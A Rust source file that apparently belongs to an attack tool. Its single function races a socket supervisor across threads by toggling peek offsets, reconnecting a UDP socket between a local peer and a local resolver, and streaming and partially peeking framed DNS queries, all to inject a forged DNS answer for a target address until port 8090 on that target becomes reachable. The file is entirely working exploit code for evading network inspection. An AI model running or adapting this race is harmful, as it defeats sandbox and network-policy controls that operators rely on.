//! All that can be done to a socket while the supervisor looks at it, from many threads at once: its peeks
//! begin elsewhere, it is connected to another peer and back, datagrams of the program itself arrive, and a
//! stream is read in pieces by all.

use crate::attack::{forged, framed, question, receive, set_option};
use std::io::Write;
use std::net::{Ipv4Addr, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

const RESOLVER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 53);

/// Races for some seconds, or until the target can be reached.
pub fn race(target: Ipv4Addr, seconds: f64) -> std::io::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
    let other = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
    let (own, peer) = (socket.local_addr()?, other.local_addr()?);
    socket.set_read_timeout(Some(Duration::from_millis(20)))?;
    let stream = TcpStream::connect((RESOLVER, 53))?;
    stream.set_read_timeout(Some(Duration::from_millis(20)))?;
    let lie = forged([0x12, 0x34], target);
    let within = question(&[&lie]);
    let streamed = framed(&question(&[&framed(&lie)]));
    let over = AtomicBool::new(false);
    let goes_on = || !over.load(Ordering::Relaxed);
    let fds = [socket.as_raw_fd(), stream.as_raw_fd()];
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while goes_on() {
                for (fd, offset) in [(fds[0], 13), (fds[1], 15), (fds[0], -1), (fds[1], 0)] {
                    let _ = set_option(fd, libc::SOL_SOCKET, libc::SO_PEEK_OFF, offset);
                }
            }
        });
        scope.spawn(|| {
            while goes_on() {
                let _ = socket.connect(peer);
                let _ = other.send_to(&lie, own);
                let _ = socket.connect((RESOLVER, 53));
                let _ = socket.send(&within);
            }
        });
        scope.spawn(|| {
            while goes_on() {
                let _ = (&stream).write_all(&streamed);
                std::thread::sleep(Duration::from_millis(1));
            }
        });
        scope.spawn(|| {
            for length in (1..streamed.len()).cycle() {
                let mut buffer = vec![0; length];
                let flags = if length % 2 == 0 { libc::MSG_PEEK } else { 0 };
                let _ = receive(fds[1], &mut buffer, flags);
                if !goes_on() {
                    break;
                }
            }
        });
        let end = Instant::now() + Duration::from_secs_f64(seconds);
        let mut count = 0_u32;
        while Instant::now() < end {
            let _ = socket.recv(&mut [0; 2048]);
            count += 1;
            if count.is_multiple_of(64) && TcpStream::connect((target, 8090)).is_ok() {
                break;
            }
        }
        over.store(true, Ordering::Relaxed);
    });
    Ok(())
}
